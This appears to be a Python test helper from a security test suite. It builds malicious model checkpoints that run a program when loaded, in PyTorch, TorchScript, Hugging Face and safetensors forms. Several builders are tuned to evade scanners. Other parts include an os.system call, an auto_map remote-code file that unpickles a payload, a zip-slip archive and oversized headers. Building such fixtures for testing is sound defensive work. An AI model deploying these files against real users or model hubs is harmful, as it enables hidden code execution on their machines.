"""The files that carry a pickle: as frameworks write them, and bent so that scanners and sniffers take them for something else."""

import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable

from tests.attack.checkpoints.pickles import GADGETS, pickled

Members = dict[str, bytes]


def zipped(members: Members, method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def torch_members(payload: bytes, folder: str = "archive") -> Members:
    return {f"{folder}/data.pkl": payload, f"{folder}/byteorder": b"little", f"{folder}/version": b"3\n"}


def torch_zip(payload: bytes) -> bytes:
    return zipped(torch_members(payload))


def flipped(payload: bytes) -> bytes:
    """The flag of encryption in the local header only: one reader minds, the other does not."""
    body = bytearray(torch_zip(payload))
    for at in range(len(body) - 4):
        if body[at : at + 4] == b"PK\x03\x04":
            body[at + 6] |= 1
    return bytes(body)


def wrong_sum(payload: bytes) -> bytes:
    """A checksum of the member that does not fit, in both headers."""
    body = bytearray(torch_zip(payload))
    for magic, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = body.find(magic)
        body[at + offset] ^= 0xFF
    return bytes(body)


def tar(payload: bytes) -> bytes:
    """How torch before 0.1.10 wrote checkpoints."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            archive.addfile(info, io.BytesIO(payload))
    return buffer.getvalue()


def torchscript(payload: bytes) -> bytes:
    code = b"def forward(self, x):\n    return __torch__.os.system('id')\n"
    members = {"m/constants.pkl": payload, "m/code/__torch__.py": code, **torch_members(payload, "m")}
    return zipped(members)


def hugging_face(**files: bytes) -> bytes:
    config = {"model_type": "vit", "architectures": ["ViTForImageClassification"], "num_labels": 2, "hidden_size": 16}
    return zipped({"config.json": json.dumps(config).encode(), "preprocessor_config.json": b"{}", **files})


def remote_code(payload: bytes) -> bytes:
    auto = {"AutoConfig": "evil.Config", "AutoModelForImageClassification": "evil.Model"}
    config = {"model_type": "evil", "auto_map": auto, "architectures": ["Evil"]}
    code = b"import pickle; pickle.loads(bytes.fromhex('" + payload.hex().encode() + b"'))"
    return zipped({"config.json": json.dumps(config).encode(), "evil.py": code, "model.safetensors": b"x" * 64})


def processor_code(payload: bytes) -> bytes:
    processor = {"image_processor_type": "Evil", "auto_map": {"AutoImageProcessor": "evil.Processor"}}
    code = b"import pickle; pickle.loads(bytes.fromhex('" + payload.hex().encode() + b"'))"
    files = {"preprocessor_config.json": json.dumps(processor).encode(), "evil.py": code}
    return hugging_face(**files, **{"model.safetensors": safetensors_header(b"{}")})


def safetensors_header(header: bytes, claimed: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if claimed is None else claimed) + header


def slip(payload: bytes) -> bytes:
    return zipped({"config.json": b"{}", "../../../output/model.onnx": payload, "/tmp/x.json": b"{}"})


Form = Callable[[bytes], bytes]
FORMS: dict[str, tuple[str, str, bool, Form]] = {
    # name: (framework, file name, whether the code runs, builder of the file from a pickle)
    "torch zip": ("ultralytics", "model.pt", True, torch_zip),
    "deflated zip": ("ultralytics", "model.pt", True, lambda p: zipped(torch_members(p), zipfile.ZIP_DEFLATED)),
    "legacy stream": ("ultralytics", "model.pt", True, lambda p: p),
    "legacy tar": ("ultralytics", "model.pt", False, tar),
    "two pickles": ("ultralytics", "model.pt", True, lambda p: zipped({**torch_members(p), "archive/b/data.pkl": b"N."})),
    "flipped bits": ("ultralytics", "model.pt", True, flipped),
    "wrong checksum": ("ultralytics", "model.pt", False, wrong_sum),
    "renamed data.pkl": ("ultralytics", "model.pt", False, lambda p: zipped({"archive/payload.pkl": p})),
    "nested zip": ("ultralytics", "model.pt", False, lambda p: zipped({"archive/inner.pt": torch_zip(p)})),
    "zip behind junk": ("ultralytics", "model.pt", False, lambda p: b"\x89PNG" + torch_zip(p)),
    "7z in pt": ("ultralytics", "model.pt", False, lambda p: b"7z\xbc\xaf\x27\x1c\0\4" + p),
    "truncated": ("ultralytics", "model.pt", False, lambda p: torch_zip(p)[:-40]),
    "pt2": ("ultralytics", "model.pt2", False, lambda p: zipped({**torch_members(p), "archive/archive_format": b"pt2"})),
    "pickle called safetensors": ("timm", "model.safetensors", False, lambda p: p),
    "pickle called zip": ("huggingface", "model.zip", False, torch_zip),
    "TorchScript": ("ultralytics", "model.pt", False, torchscript),
    "timm pth": ("timm", "model.pth", False, torch_zip),
    "Hugging Face bin": ("huggingface", "m.zip", False, lambda p: hugging_face(**{"pytorch_model.bin": torch_zip(p)})),
    "Hugging Face auto_map": ("huggingface", "m.zip", False, remote_code),
    "Hugging Face processor": ("huggingface", "m.zip", False, processor_code),
    "zip slip": ("huggingface", "m.zip", False, slip),
    "safetensors of 2^63": ("timm", "m.safetensors", False, lambda p: safetensors_header(b"{}", (1 << 63) - 1) + p),
    "safetensors of braces": ("timm", "m.safetensors", False, lambda p: safetensors_header(b'{"a":' * 100_000)),
}  # fmt: skip


def hostile(form: str, gadget: str, program: str) -> tuple[str, str, bytes]:
    """(framework, file name, bytes) of a checkpoint that runs the program when it is opened."""
    framework, name, _, build = FORMS[form]
    lead = {} if framework == "ultralytics" else {"lead": b""}
    return framework, name, build(pickled(GADGETS[gadget](program), **lead))
